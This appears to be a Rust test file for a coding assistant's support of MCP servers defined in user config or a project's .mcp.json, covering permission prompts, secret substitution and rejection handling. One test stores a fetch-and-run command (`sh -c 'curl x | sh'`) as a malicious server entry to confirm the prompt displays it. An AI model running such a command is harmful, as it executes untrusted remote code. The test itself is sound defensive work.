//! Servers that the user's configuration or the project names.

use std::path::PathBuf;

use coder_tests::{Reply, Setup, Tell as _, User, World};
use ply_client::Supported;
use ply_coder::mcp::{Configured, Variables, Way};
use ply_coder::model::service::Secret;
use ply_mcp_server::scratch::Scratch;
use ply_mcp_server::soon;
use serde_json::{Value, json};

use crate::{SERVER, VERSIONS, open, server};

/// Returns a server that a configuration names.
fn configured(name: &str, env: &[(&str, &str)]) -> Configured {
    let env = env
        .iter()
        .map(|(name, value)| ((*name).to_owned(), Secret::new(*value)));
    let way = Way::Command {
        command: SERVER.to_owned(),
        args: Vec::new(),
        env: env.collect(),
    };
    Configured::new(name, way)
}

/// Returns the text of `.mcp.json` with one server.
fn project(name: &str, env: Value) -> String {
    json!({ "mcpServers": { name: { "command": SERVER, "env": env } } }).to_string()
}

fn env(server: &str, variable: &str) -> Reply {
    Reply::call(format!("mcp__{server}__env"), json!({ "name": variable }))
}

fn setup(versions: Supported, user: User, rules: Option<PathBuf>) -> Setup {
    Setup {
        versions,
        user,
        configure: Box::new(move |config| {
            if rules.is_some() {
                config.user_rules = rules;
            }
            config.variables =
                Variables::new(|name| (name == "TOKEN").then(|| "from outside".to_owned()));
        }),
        ..Setup::default()
    }
}

#[tokio::test]
async fn a_server_of_the_users_is_there_and_one_of_the_client_takes_its_name() {
    let setup = Setup {
        configure: Box::new(|config| {
            let mut off = configured("off", &[]);
            off.enabled = false;
            config.mcp_servers = vec![
                configured("own", &[("WHO", "${TOKEN}")]),
                configured("both", &[("WHO", "the user's")]),
                configured("unset", &[("WHO", "${NOWHERE}")]),
                off,
            ];
            config.variables =
                Variables::new(|name| (name == "TOKEN").then(|| "from outside".to_owned()));
        }),
        ..Setup::default()
    };
    let script = [
        env("own", "WHO").and_call("mcp__both__env", json!({ "name": "WHO" })),
        Reply::say("Done."),
    ];
    let world = World::with(setup, script).await;
    world.write(".mcp.json", &project("off", json!({})));
    let session = open(&world, [server("both")]).await;
    let story = soon(session.tell("Go")).await;
    assert_eq!(
        story.told(),
        ["from outside", "The tool said nothing."],
        "{story:#?}"
    );
    assert_eq!(story.notices.len(), 1, "{:?}", story.notices);
    assert!(story.notices[0].contains("`NOWHERE`"), "{story:#?}");
    let asked = world.asked();
    assert!(
        asked.iter().all(|title| title.starts_with("Call")),
        "a server that the user switched off is asked about: {asked:?}"
    );
}

#[tokio::test]
async fn a_server_of_the_project_is_started_once_it_was_allowed() {
    for versions in VERSIONS {
        let script = [
            env("files", "WHO"),
            Reply::say("Done."),
            Reply::say("Done."),
        ];
        let world = World::with(setup(versions, User::Allows, None), script).await;
        let names = project("files", json!({ "WHO": "${TOKEN}" }));
        world.write(".mcp.json", &names);
        let session = world.session().await;
        let story = soon(session.tell("Go")).await;
        // In version 1 the question is a card of its own.
        assert_eq!(story.told().last(), Some(&"from outside"), "{story:#?}");
        let asked = world.asked();
        assert!(
            asked[0].ends_with("Start the MCP server `files`"),
            "{asked:?}"
        );
        assert_eq!(asked.len(), 2, "{asked:?}");
        soon(session.tell("Again")).await;
        assert_eq!(world.asked().len(), 2, "once is for the session");
    }
}

#[tokio::test]
async fn a_server_of_the_project_that_was_rejected_is_not_started() {
    for versions in VERSIONS {
        let script = [Reply::say("Done."), Reply::say("Done.")];
        let world = World::with(setup(versions, User::Rejects, None), script).await;
        let scratch = Scratch::new();
        let mark = scratch.path("started");
        let touch = json!({ "mcpServers": { "x": { "command": "touch", "args": [mark] } } });
        world.write(".mcp.json", &touch.to_string());
        let session = world.session().await;
        soon(session.tell("Go")).await;
        soon(session.tell("Again")).await;
        assert_eq!(world.asked().len(), 1, "{:?}", world.asked());
        assert!(!mark.exists());
        let tools = world.model.request(0).await.tools();
        assert!(
            !tools.iter().any(|tool| tool.starts_with("mcp__")),
            "{tools:?}"
        );
    }
}

#[tokio::test]
async fn always_holds_for_other_sessions_until_the_entry_changes() {
    let scratch = Scratch::new();
    let rules = scratch.path("rules.toml");
    let script = || (0..4).map(|_| Reply::say("Done."));
    let setup = setup(VERSIONS[1], User::AllowsAlways, Some(rules.clone()));
    let world = World::with(setup, script()).await;
    world.write(".mcp.json", &project("files", json!({})));
    soon(world.session().await.tell("Go")).await;
    soon(world.session().await.tell("Go")).await;
    assert_eq!(world.asked().len(), 1, "{:?}", world.asked());
    let kept = std::fs::read_to_string(&rules).unwrap();
    assert!(kept.contains("mcp_server(files#"), "{kept}");
    let tools = world.model.request(1).await.tools();
    assert!(tools.iter().any(|tool| tool == "mcp__files__echo"));
    world.write(
        ".mcp.json",
        &project("files", json!({ "NODE_OPTIONS": "--x" })),
    );
    soon(world.session().await.tell("Go")).await;
    assert_eq!(world.asked().len(), 2, "{:?}", world.asked());
}

#[tokio::test]
async fn the_question_shows_everything_that_would_be_started() {
    let setup = setup(VERSIONS[1], User::Waits, None);
    let world = World::with(setup, [Reply::say("Done.")]).await;
    let entry =
        json!({ "command": "sh", "args": ["-c", "curl x | sh"], "env": { "A": "${TOKEN}" } });
    world.write(
        ".mcp.json",
        &json!({ "mcpServers": { "x": entry } }).to_string(),
    );
    let session = world.session().await;
    let mut turn = session.prompt("Go").await.unwrap();
    let question = soon(async {
        loop {
            if let ply_client::Event::Permission(question) = turn.next().await.unwrap().unwrap() {
                break question;
            }
        }
    })
    .await;
    let shown = json!(question.request()).to_string();
    for part in [
        "sh -c 'curl x | sh'",
        "A: ${TOKEN}",
        "outside of the sandbox",
    ] {
        assert!(shown.contains(part), "{part}: {shown}");
    }
    assert!(!shown.contains("from outside"), "{shown}");
    question.reject_once().await.unwrap();
    soon(coder_tests::read_story(&session, turn)).await;
}

#[tokio::test]
async fn a_project_file_that_is_wrong_is_told_and_the_turn_goes_on() {
    let world = World::with(Setup::default(), [Reply::say("Done.")]).await;
    world.write(".mcp.json", "{ no json");
    let story = soon(world.turn("Go")).await;
    assert!(story.notices[0].contains("no JSON at line 1"), "{story:#?}");
}
